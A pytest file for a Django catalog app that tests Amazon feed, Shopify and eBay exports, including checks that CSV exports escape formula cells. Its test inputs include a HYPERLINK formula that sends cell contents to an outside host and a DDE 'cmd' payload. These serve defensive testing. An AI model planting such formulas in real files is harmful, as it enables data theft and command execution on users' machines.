"""Amazon feeds Amazon would apply, from the export job: every written document validates against
the listings-feed schema v2 structure, carries the selling price as `purchasable_offer`, maps
product types from the category data (flagging the PRODUCT fallback), and splits at 10,000
messages; Shopify files only for Shopify stores; every CSV written escapes formula cells."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse

from apps.catalog.exports.listings import listings_export_run, listings_export_start
from apps.catalog.exports.marketplace import (
    export_file,
    marketplace_export_run,
    marketplace_export_start,
    report_file,
)
from apps.catalog.exports.product_types import amazon_product_type, category_product_types
from apps.catalog.models import Listing, Product
from apps.core.errors import ValidationFailed
from apps.core.models import Job
from tests.factories import ListingFactory, ProductFactory, StoreFactory, marketplace
from tests.integrations.feed_schema import assert_valid_feed, message_attributes

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.fixture(autouse=True)
def media(tmp_path, settings):
    settings.MEDIA_ROOT = str(tmp_path)


@pytest.fixture
def amazon_store(org):
    return StoreFactory(organization=org, marketplace=marketplace("amazon_us"), seller_id="A9X")


def export(org, user, store, fmt="", operation="UPDATE") -> Job:
    job = marketplace_export_start(
        org=org, actor=user, store_id=store.pk, fmt=fmt, operation=operation
    )
    marketplace_export_run(org=org, job=job)
    return Job.objects.for_org(org).get(pk=job.pk)


def feed_documents(job: Job) -> list[dict]:
    path = export_file(job)
    if path.suffix == ".zip":
        with zipfile.ZipFile(path) as zf:
            return [json.loads(zf.read(name)) for name in sorted(zf.namelist())]
    return [json.loads(path.read_text("utf-8"))]


def test_the_category_mapping_is_data_and_a_product_can_override_it():
    assert category_product_types()["cables"] == "ELECTRONIC_CABLE"
    assert amazon_product_type(category=" chargers ") == "CHARGING_ADAPTER"
    assert amazon_product_type(category="数据线") == "ELECTRONIC_CABLE"
    assert amazon_product_type(category="Power banks") == ""
    override = {"amazon_product_type": "battery"}
    assert amazon_product_type(category="Power banks", attributes=override) == "BATTERY"


def test_the_feed_carries_the_selling_price_quantity_and_mapped_types_and_flags_the_fallback(
    org, user, client_for, amazon_store
):
    charger = ListingFactory(organization=org, store=amazon_store, stock=7)
    bank = ListingFactory(
        organization=org,
        store=amazon_store,
        product=ProductFactory(organization=org, category="Power banks"),
        title="Voltora 10000 mAh Power Bank",
        price=Decimal("24.99"),
    )
    job = export(org, user, amazon_store)
    (doc,) = feed_documents(job)
    assert_valid_feed(doc)
    by_sku = {m["sku"]: m for m in doc["messages"]}
    first = by_sku[charger.product.sku]
    assert first["productType"] == "CHARGING_ADAPTER"
    offer = first["attributes"]["purchasable_offer"][0]
    assert offer == {
        "currency": "USD",
        "marketplace_id": "ATVPDKIKX0DER",
        "our_price": [{"schedule": [{"value_with_tax": 19.99}]}],
    }
    assert first["attributes"]["fulfillment_availability"][0]["quantity"] == 7
    assert by_sku[bank.product.sku]["productType"] == "PRODUCT"
    assert job.result["documents"] == 1 and job.result["fallback_count"] == 1
    assert job.result["fallback"] == [
        {"sku": bank.product.sku, "id": bank.pk, "category": "Power banks"}
    ]
    page = client_for(user).get(reverse("exports:job", args=[job.pk])).content.decode()
    assert 'data-testid="export-fallback"' in page and "Power banks" in page


def test_an_offer_only_feed_patches_price_and_quantity(org, user, api_client, amazon_store):
    ListingFactory(organization=org, store=amazon_store)
    response = api_client.post(
        "/api/v1/exports/", {"store": amazon_store.pk, "operation": "OFFER_ONLY"}, format="json"
    )
    assert response.status_code == 202, response.content
    job = Job.objects.for_org(org).get(pk=response.json()["id"])
    marketplace_export_run(org=org, job=job)
    (doc,) = feed_documents(Job.objects.for_org(org).get(pk=job.pk))
    assert_valid_feed(doc)
    (msg,) = doc["messages"]
    assert msg["operationType"] == "PATCH" and "requirements" not in msg
    assert set(message_attributes(msg)) == {"purchasable_offer", "fulfillment_availability"}
    bad = api_client.post(
        "/api/v1/exports/", {"store": amazon_store.pk, "operation": "DELETE"}, format="json"
    )
    assert bad.status_code == 400


def _bulk_listings(org, store, n: int) -> None:
    products = Product.objects.bulk_create(
        [
            Product(organization=org, sku=f"BULK-{i:05d}", name="充电器", category="Chargers")
            for i in range(n)
        ]
    )
    Listing.objects.bulk_create(
        [
            Listing(
                organization=org,
                product=p,
                store=store,
                title=f"Voltora 20W USB-C Charger {p.sku}",
                language="en-US",
                price=Decimal("12.99"),
                currency="USD",
                stock=5,
            )
            for p in products
        ]
    )


def test_a_feed_of_10001_listings_becomes_two_documents_downloaded_as_a_zip(
    org, user, client_for, amazon_store
):
    _bulk_listings(org, amazon_store, 10_001)
    job = export(org, user, amazon_store, operation="OFFER_ONLY")
    assert job.status == "succeeded", job.error
    assert (job.result["documents"], job.result["messages"]) == (2, 10_001)
    docs = feed_documents(job)
    assert [len(d["messages"]) for d in docs] == [10_000, 1]
    for doc in docs:
        assert_valid_feed(doc)
    assert docs[1]["messages"][0]["messageId"] == 1
    skus = [m["sku"] for d in docs for m in d["messages"]]
    assert len(set(skus)) == 10_001
    response = client_for(user).get(reverse("exports:download", args=[job.pk]))
    assert response["Content-Disposition"].endswith('.zip"')
    page = client_for(user).get(reverse("exports:job", args=[job.pk])).content.decode()
    assert 'data-testid="export-documents"' in page


def test_an_export_with_nothing_to_send_writes_no_document(org, user, client_for, amazon_store):
    ListingFactory(organization=org, store=amazon_store, title="Best seller cable!")
    job = export(org, user, amazon_store)
    assert job.result["documents"] == 0 and job.result["download_url"] == ""
    page = client_for(user).get(reverse("exports:job", args=[job.pk])).content.decode()
    assert 'data-testid="export-download"' not in page


def test_the_listings_page_offers_each_store_only_its_own_format(org, user, client_for):
    shop = StoreFactory(organization=org, marketplace=marketplace("shopify"), name="Shop")
    amazon = StoreFactory(organization=org, marketplace=marketplace("amazon_us"), name="AMZ")
    page = client_for(user).get(reverse("catalog:listings")).content.decode()
    assert f'value="{shop.pk}" data-format="shopify_csv"' in page
    assert f'value="{amazon.pk}" data-format="amazon_json"' in page
    assert 'data-format="ebay_csv"' not in page
    with pytest.raises(ValidationFailed):
        marketplace_export_start(org=org, actor=user, store_id=amazon.pk, fmt="shopify_csv")
    # no format given: the store's own
    job = marketplace_export_start(org=org, actor=user, store_id=shop.pk, fmt="")
    assert job.result["format"] == "shopify_csv"


# --- formula cells ------------------------------------------------------------------------------


def _formula_listing(org, store, **over):
    product = ProductFactory(organization=org, sku="-SKU-1", brand="@brand")
    values = {"title": FORMULA, "description": "+1 great", "search_terms": "-cheap", **over}
    return ListingFactory(organization=org, store=store, product=product, **values)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_listings_csv_export_escapes_formula_cells(org, user):
    store = StoreFactory(organization=org, marketplace=marketplace("amazon_us"))
    _formula_listing(org, store, stock=-2)
    job = listings_export_start(org=org, actor=user)
    path = listings_export_run(org=org, job=job)
    header, row = _cells(path.read_text("utf-8-sig"))
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == "'" + FORMULA
    assert cells["sku"] == "'-SKU-1" and cells["search_terms"] == "'-cheap"
    assert cells["description"] == "'+1 great"
    assert cells["stock"] == "-2"  # a number stays a number


def test_the_shopify_csv_escapes_formula_cells(org, user):
    shop = StoreFactory(organization=org, marketplace=marketplace("shopify"))
    _formula_listing(org, shop, currency="USD", stock=-1)
    job = export(org, user, shop)
    header, row = _cells(export_file(job).read_text("utf-8-sig"))
    cells = dict(zip(header, row, strict=True))
    assert cells["Title"] == "'" + FORMULA and cells["SEO Title"].startswith("'=")
    assert cells["Vendor"] == "'@brand" and cells["Variant SKU"] == "'-SKU-1"
    assert cells["Variant Inventory Qty"] == "-1"


def test_the_ebay_csv_escapes_formula_cells(org, user):
    ebay = StoreFactory(organization=org, marketplace=marketplace("ebay_uk"))
    _formula_listing(org, ebay, currency="GBP")
    job = export(org, user, ebay)
    rows = _cells(export_file(job).read_text("utf-8-sig"))
    title_at = rows[0].index("Title")
    assert rows[1][title_at] == "'" + FORMULA
    assert rows[1][rows[0].index("CustomLabel")] == "'-SKU-1"


def test_the_left_out_report_escapes_formula_cells(org, user, amazon_store):
    _formula_listing(org, amazon_store, title="=cmd|' /C calc'!A0 best seller!")
    job = export(org, user, amazon_store)
    header, row = _cells(report_file(job).read_text("utf-8-sig"))
    assert header == ["sku", "listing_id", "reasons"]
    assert row[0] == "'-SKU-1"
